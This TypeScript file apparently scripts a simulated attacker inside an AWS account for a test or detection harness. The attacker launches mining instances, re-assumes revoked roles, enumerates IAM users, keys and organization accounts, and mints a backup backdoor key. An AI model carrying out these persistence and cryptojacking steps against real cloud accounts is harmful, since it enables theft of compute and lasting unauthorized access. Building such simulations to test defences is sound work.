import {DescribeInstancesCommand, EC2Client} from '@aws-sdk/client-ec2';
import {IAMClient, ListAccessKeysCommand, ListUsersCommand} from '@aws-sdk/client-iam';
import {ListAccountsCommand, OrganizationsClient} from '@aws-sdk/client-organizations';
import type {Actor, Intent} from '../../actors/actor.ts';
import type {Truth} from '../../actors/truth.ts';
import {MINES, NAMES} from './cast.ts';
import {mintKey, takeRole} from './foothold.ts';
import {launch} from './mining.ts';
import {probe} from './recon.ts';

/** More machines than this the attacker does not start while somebody watches. */
const LIVE_INSTANCES = 24;

/** So often it takes a role again that does not serve it any more. */
const RETAKES = 3;

/**
 * What the attacker goes on with, each credential in turn. When one is taken away it takes the role again, makes
 * itself another key, and lets the other credentials do the work.
 */
export function livingAttack(accountId: string, truth: Truth): Intent[] {
	const before = truth.resources.length;
	let turn = 0;
	const more = () => truth.resources.length - before < LIVE_INSTANCES;
	const nextMine = () => MINES[turn++ % MINES.length] ?? MINES[0];
	const count = (region: string, by: string): Intent => ({
		by,
		act: hand => hand.client(EC2Client, region).send(new DescribeInstancesCommand({})),
	});
	const grow = (by: string): Intent => ({
		by,
		when: more,
		act: hand => launch(hand, nextMine(), {InstanceType: 'c6i.4xlarge'}),
	});
	const again = (name: string, role: string, by: string): Intent => {
		let vain = 0;
		return {
			by,
			alone: true,
			when(actor) {
				vain = actor.isRefused(name) ? vain : 0;
				return actor.isRefused(name) && vain < RETAKES;
			},
			async act(hand) {
				vain++;
				await takeRole(hand, {accountId, role}, name, 'botocore-session-1732439417');
			},
		};
	};
	return [
		count('us-east-1', NAMES.key),
		grow('deploy-role'),
		count('us-west-2', 'session'),
		{by: 'backdoor', act: hand => hand.client(IAMClient).send(new ListUsersCommand({}))},
		again('deploy-role', NAMES.deployRole, NAMES.key),
		again('deploy-role', NAMES.deployRole, 'backdoor'),
		count('eu-central-2', 'federation'),
		grow('backdoor-role'),
		again('backdoor-role', NAMES.deployRole, 'backdoor'),
		{by: 'organization', act: hand => hand.client(OrganizationsClient).send(new ListAccountsCommand({}))},
		again('organization', NAMES.organizationRole, 'deploy-role'),
		again('organization', NAMES.organizationRole, 'backdoor-role'),
		{
			by: 'backdoor',
			act: hand => hand.client(IAMClient).send(new ListAccessKeysCommand({UserName: NAMES.backdoorUser})),
		},
		secondKey,
		{by: NAMES.key, act: hand => probe(hand, 'us-east-2')},
	];
}

/** Noticing that a key of its own is gone, the attacker makes one more with whatever may. */
const secondKey: Intent = {
	by: 'deploy-role',
	when: (actor: Actor) => !actor.has('backdoor-2') && (actor.isLost(NAMES.key) || actor.isLost('backdoor')),
	act: hand => mintKey(hand, 'backdoor-2'),
};
